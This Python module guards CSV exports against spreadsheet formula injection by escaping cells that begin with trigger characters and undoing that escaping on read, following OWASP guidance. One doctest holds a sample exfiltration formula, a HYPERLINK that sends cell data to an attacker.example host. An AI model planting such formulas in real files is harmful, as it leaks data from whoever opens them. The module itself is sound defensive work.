"""CSV files written for people: safe to open in a spreadsheet, and read back exactly.

A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula, and some strip a leading tab or carriage return first
(so ``"\\t=1+2"`` becomes a formula too). Text from data (names, evidence, documents)
could therefore run a formula such as ``=HYPERLINK(...)`` or a DDE command on the
analyst's machine. Following the OWASP guidance on CSV injection, every text cell that
starts with one of these characters (or their full-width forms) is written with a
leading apostrophe, which spreadsheets show as text and do not display; numbers stay
numbers. :func:`read_people_csv` removes exactly those apostrophes again, so a table an
analyst edited and saved comes back as it was written.

Files meant to be read back by programs (graph files, relations tables) are written
exactly, without this escaping.

References
----------
.. [1] OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import os
from pathlib import Path

import pandas as pd

from .files import atomic_write

__all__ = ["TRIGGERS", "formula_safe", "read_people_csv", "unescape_formula", "write_people_csv"]

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""First characters that make a spreadsheet read a cell as a formula."""


def formula_safe(value: object) -> object:
    """``value`` with an apostrophe in front if it is text a spreadsheet would run.

    Examples
    --------
    >>> formula_safe('=HYPERLINK("http://attacker.example/?x="&A1,"click")')
    '\\'=HYPERLINK("http://attacker.example/?x="&A1,"click")'
    >>> formula_safe("\\t=1+2"), formula_safe("Turkey"), formula_safe(-0.4)
    ("'\\t=1+2", 'Turkey', -0.4)
    >>> formula_safe("'=already quoted")  # an apostrophe is kept, and one more added
    "''=already quoted"
    """
    if isinstance(value, str) and (value.startswith(TRIGGERS) or _quoted_trigger(value)):
        return "'" + value
    return value


def unescape_formula(value: object) -> object:
    """Undo :func:`formula_safe`: drop the apostrophe it added, and nothing else.

    Examples
    --------
    >>> unescape_formula("'=SUM(1+1)"), unescape_formula("'tis"), unescape_formula("''=x")
    ('=SUM(1+1)', "'tis", "'=x")
    """
    if isinstance(value, str) and value.startswith("'"):
        rest = value[1:]
        if rest.startswith(TRIGGERS) or _quoted_trigger(rest):
            return rest
    return value


def _quoted_trigger(value: str) -> bool:
    """Apostrophes followed by a trigger: escaped once more, so unescaping is exact."""
    stripped = value.lstrip("'")
    return len(stripped) < len(value) and stripped.startswith(TRIGGERS)


def write_people_csv(frame: pd.DataFrame, path: str | os.PathLike, *, index: bool = False) -> Path:
    """Write ``frame`` as UTF-8 CSV for people: text cells formula-safe, written whole or
    not at all. Text index values (actor ids) are made safe too.

    Examples
    --------
    >>> import tempfile, pathlib
    >>> path = pathlib.Path(tempfile.mkdtemp()) / "t.csv"
    >>> frame = pd.DataFrame({"name": ["=1+2", "Iran"], "score": [-1.5, 2.0]})
    >>> print(write_people_csv(frame, path).read_text(), end="")
    name,score
    '=1+2,-1.5
    Iran,2.0
    >>> read_people_csv(path).equals(frame)
    True
    """
    safe = frame.copy()
    for column in safe.columns:
        if safe[column].dtype == object or pd.api.types.is_string_dtype(safe[column]):
            safe[column] = safe[column].map(formula_safe)
    if index:
        safe.index = safe.index.map(formula_safe)
        safe.index.name = formula_safe(frame.index.name)
    safe.columns = [formula_safe(str(c)) for c in safe.columns]
    path = Path(path)
    with atomic_write(path) as handle:
        safe.to_csv(handle, index=index)
    return path


def read_people_csv(path: str | os.PathLike, **read_csv_options) -> pd.DataFrame:
    """Read a CSV written by :func:`write_people_csv` (and perhaps edited), undoing the
    formula escaping; ``read_csv_options`` go to :func:`pandas.read_csv`."""
    frame = pd.read_csv(path, **read_csv_options)
    for column in frame.columns:
        if frame[column].dtype == object or pd.api.types.is_string_dtype(frame[column]):
            frame[column] = frame[column].map(unescape_formula)
    frame.columns = [unescape_formula(c) for c in frame.columns]
    if frame.index.dtype == object:
        frame.index = frame.index.map(unescape_formula)
    return frame
